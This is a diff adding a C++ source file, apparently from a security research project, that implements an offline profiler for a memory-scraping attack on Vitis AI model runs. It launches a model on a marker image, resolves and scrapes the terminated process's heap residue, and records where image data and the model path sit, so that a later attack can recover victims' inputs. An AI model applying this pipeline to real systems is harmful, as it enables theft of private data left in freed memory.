@@ -1,0 +1,72 @@
+#include "attack/profiler.h"
+
+#include <stdexcept>
+
+#include "attack/hexdump_analyzer.h"
+#include "util/strings.h"
+
+namespace msa::attack {
+
+void ProfileDb::add(ModelProfile profile) {
+  profiles_[profile.model_name] = std::move(profile);
+}
+
+std::optional<ModelProfile> ProfileDb::find(const std::string& model) const {
+  const auto it = profiles_.find(model);
+  if (it == profiles_.end()) return std::nullopt;
+  return it->second;
+}
+
+ModelProfile OfflineProfiler::profile_model(const std::string& model_name,
+                                            std::uint32_t width,
+                                            std::uint32_t height, os::Uid as_uid,
+                                            const std::string& tty) {
+  // 1. Run the model on a marker image in our own process.
+  img::Image marker{width, height, img::kProfilingPixel};
+  const vitis::VictimRun run =
+      runtime_.launch(as_uid, model_name, marker, tty);
+
+  // 2. Resolve our own heap (we could read it directly — using the attack
+  //    pipeline keeps the measurement identical to the later replay).
+  AddressResolver resolver{debugger_};
+  const ResolvedTarget target = resolver.resolve_heap(run.pid);
+
+  // 3. Terminate and scrape the residue.
+  runtime_.system().terminate(run.pid);
+  MemoryScraper scraper{debugger_};
+  const ScrapedDump dump = scraper.scrape(target);
+
+  // 4. Locate the marker: the first long run of 0x55 bytes. 3*16 bytes is
+  //    16 marker pixels — long enough that weights can't fake it.
+  HexDumpAnalyzer analyzer{dump.bytes};
+  const std::size_t off = analyzer.find_byte_run(0x55, 48);
+  if (off == HexDumpAnalyzer::npos) {
+    throw std::runtime_error("profile_model: marker not found in residue of " +
+                             model_name);
+  }
+
+  // 5. Anchor string for physical-scan reconstruction.
+  const auto path_hits =
+      analyzer.grep("models/" + model_name + "/" + model_name + ".xmodel");
+  const std::uint64_t path_off = path_hits.empty() ? 0 : path_hits.front().byte_offset;
+
+  ModelProfile p;
+  p.model_name = model_name;
+  p.image_offset = off;
+  p.image_width = width;
+  p.image_height = height;
+  p.heap_bytes = dump.bytes.size();
+  p.path_string_offset = path_off;
+  return p;
+}
+
+ProfileDb OfflineProfiler::profile_zoo(std::uint32_t width, std::uint32_t height,
+                                       os::Uid as_uid) {
+  ProfileDb db;
+  for (const auto& name : vitis::zoo_model_names()) {
+    db.add(profile_model(name, width, height, as_uid));
+  }
+  return db;
+}
+
+}  // namespace msa::attack
